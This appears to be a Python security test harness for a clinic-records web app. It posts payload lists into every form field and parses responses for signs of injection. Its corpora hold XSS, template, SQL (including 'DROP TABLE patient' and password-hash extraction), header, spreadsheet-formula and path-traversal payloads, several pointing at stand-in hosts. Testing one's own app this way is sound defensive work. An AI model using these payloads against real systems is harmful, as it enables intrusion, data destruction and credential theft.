"""Texts that attack, and a browser that sends them through every form and looks at what comes back."""

import os
from html.parser import HTMLParser
from itertools import count

from tracker.models.base import Base, ClinicRow
from writing import fields

FULL = os.environ.get("ATTACKS") == "full"  # `make attacks`: hours of an attacker, in minutes
MARK = "qzx"
SUM = "1349033"  # 1337 * 1009, which no page holds by chance
SQL_SAYS = ("sqlite3", "psycopg", "syntax error", "unrecognized token", "OperationalError", "IntegrityError")

XSS = (
    "<script>qzx()</script>",
    '"><script src=//qzx.example></script>',
    "'><img src=x onerror=qzx()>",
    '" autofocus onfocus=qzx() x="',
    "' onmouseover='qzx()",
    "` onload=qzx() `",
    "<svg/onload=qzx()>",
    "<svg><script>qzx()</script></svg>",
    "</title><script>qzx()</script>",
    "</textarea><script>qzx()</script>",
    "</option></select><img src=x onerror=qzx()>",
    "--><img src=x onerror=qzx()>",
    "]]><script>qzx()</script>",
    "javascript:qzx()",
    "JaVaScRiPt:qzx()//",
    "data:text/html,<script>qzx()</script>",
    '<a href="javascript:qzx()">x</a>',
    "<iframe srcdoc='<script>qzx()</script>'>",
    '<math><mi xlink:href="javascript:qzx()">x',
    "<form action=//qzx.example><button>x",
    "<base href=//qzx.example/>",
    "<meta http-equiv=refresh content='0;url=//qzx.example'>",
    "<link rel=stylesheet href=//qzx.example>",
    "<style>@import'//qzx.example'</style>",
    "<object data=//qzx.example><embed src=//qzx.example>",
    "<details open ontoggle=qzx()>",
    "<div hx-get=//qzx.example hx-trigger=load>",
    "<x data-hx-on:load=qzx()>",
    "&lt;script&gt;qzx()&lt;/script&gt;",
    "\\x3cscript\\x3eqzx()\\x3c/script\\x3e",
    "+ADw-script+AD4-qzx()+ADw-/script+AD4-",
    "<scr<script>ipt>qzx()</scr</script>ipt>",
    "\uff1cscript\uff1eqzx()\uff1c/script\uff1e",
)
TEMPLATES = (
    "{{1337*1009}}qzx",
    "{% set x=1337*1009 %}{{x}}qzx",
    "${1337*1009}qzx",
    "#{1337*1009}qzx",
    "<%= 1337*1009 %>qzx",
    "{{config.SECRET_KEY}}qzx",
    "{0.__class__}qzx",
    "%(qzx)s %s %n",
)
SQL = (
    "' OR '1'='1' -- qzx",
    '" OR ""=" qzx',
    "'; DROP TABLE patient; -- qzx",
    "1; DELETE FROM audit_event -- qzx",
    "') UNION SELECT password_hash FROM app_user -- qzx",
    "1 OR 1=1 qzx",
    "qzx%' AND 1=(SELECT COUNT(*) FROM app_user) AND '%'='",
    "qzx\\' OR 1=1 --",
    "qzx' || (SELECT 1337*1009) || '",
    "qzx_%_[a-z]*",
    "/**/qzx/*!50000*/",
)
HEADERS = (
    "qzx\r\nSet-Cookie: owned=1",
    "qzx\nBcc: everyone@evil.example",
    "qzx\r\n\r\n<script>qzx()</script>",
    "qzx\u2028Set-Cookie: owned=1",
    "qzx%0d%0aSet-Cookie:%20owned=1",
    "qzx\u560a\u560dSet-Cookie: owned=1",
)
FORMULAS = (
    "=cmd|' /C calc'!A0 qzx",
    "@SUM(1+1)*qzx",
    "+1+qzx",
    "-2+3+qzx",
    ' =HYPERLINK("//qzx.example")',
    "\uff1d1+1+qzx",
)
FORMULA_STARTS = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
PATHS = (
    "../../../../etc/passwd qzx",
    "..\\..\\qzx",
    "/etc/qzx",
    "file:///etc/qzx",
    "qzx\x00.pdf",
    "//qzx.example/x",
)
FACTS = ("coverage", "authorization", "regimen", "fill", "planned_fill", "trial", "denial", "lab", "weight")
WANTED = {
    "app_user": "user",
    "payer_authorization": "authorization",
    "formulary_rule": "rule",
    "import_batch": "batch",
    "outbox_message": "message",
    "saved_view": "view",
}
PLACES = {"act": "note", "secret": "qzx", "token": "qzx", "session": "0" * 26, "passkey": "0" * 26}
CORPUS = (*XSS, *TEMPLATES, *SQL, *HEADERS, *FORMULAS, *PATHS)


class _Acts(HTMLParser):
    """Whatever of an attack became part of the page's structure."""

    def __init__(self):
        super().__init__()
        self.found, self._script = [], False

    def handle_starttag(self, tag, attributes):
        self._script = tag in ("script", "style")
        if MARK in tag or tag in ("base", "iframe", "object", "embed", "math"):
            self.found.append(tag)
        for name, value in attributes:
            text = "".join((value or "").split()).lower()
            hostile = name.startswith(("on", "hx-on", "data-hx", "srcdoc")) or MARK in name
            leads = name in ("href", "src", "action", "formaction", "data", "hx-get", "hx-post", "xlink:href")
            if hostile or (leads and text.startswith(("javascript:", "data:text", "//", "http"))):
                self.found.append(f"{tag} {name}={value}")

    def handle_data(self, data):
        if self._script and MARK in data:
            self.found.append(f"script: {data[:40]}")
        self._script = False


def acts(answer):
    """What a payload did in this answer; empty when it stayed text."""
    found = []
    if answer.mimetype == "text/html":
        parser = _Acts()
        parser.feed(answer.text)
        found = parser.found
        found += [f"says {word}" for word in SQL_SAYS if word in answer.text]
    if answer.status_code == 500:
        found.append(f"status {answer.status_code}")
    if SUM in answer.text:
        found.append("a template or a query was calculated")
    if "owned" in "".join(answer.headers.getlist("Set-Cookie")) or "Bcc" in answer.headers:
        found.append("a header was written")
    if MARK in (answer.location or "").split("?")[0]:
        found.append(f"leads to {answer.location}")
    return found


def addresses(session, clinic_id, way):
    """The addresses of one way with the clinic's own records, each in the place for its kind."""
    rows = {**PLACES, **_one_of_each(session, clinic_id)}
    made = []
    for kind in FACTS if "kind" in way.names else ("",):
        own = {**rows, "kind": kind, "fact": rows.get(kind)}
        ids = [own.get(name.removesuffix("_id")) for name in way.names]
        if None not in ids:
            address = way.rule
            for name, row_id in zip(way.names, ids, strict=True):
                address = address.replace(f"<{name}>", row_id)
            made.append(address)
    return made


def _one_of_each(session, clinic_id):
    """What a place in an address wants -> id of such a row."""
    found = {}
    for mapper in Base.registry.mappers:
        table = mapper.class_
        if issubclass(table, ClinicRow):
            row = session.query(table.id).filter(table.clinic_id == clinic_id).order_by(table.id).first()
            if row:
                found[WANTED.get(table.__tablename__, table.__tablename__)] = row[0]
    return found


class Attacker:
    """Sends each next text of the corpus in each next field."""

    def __init__(self, corpus=CORPUS, *, begin=0):
        self.corpus, self._next, self.sent, self.wrong = corpus, count(begin), 0, []

    def text(self):
        self.sent += 1
        return self.corpus[next(self._next) % len(self.corpus)]

    def post(self, client, address, names):
        """Every named field at once, each with its own text."""
        data = {name: self.text() for name in names}
        with client.post(address, data=data) as answer:
            self._look(address, data, answer)
            after = answer.location
        if after and after.startswith("/") and not after.startswith("//"):
            with client.get(after) as shown:
                self._look(after, data, shown)

    def get(self, client, address, names):
        data = {name: self.text() for name in names}
        with client.get(address, query_string=data) as answer:
            self._look(address, data, answer)

    def _look(self, address, data, answer):
        found = acts(answer)
        if found:
            self.wrong.append((address, found[:3], data))


def names_in(page):
    """The fields of the forms of a page."""
    return sorted(name for name in fields(page) if name and name not in ("csrf_token", "version"))
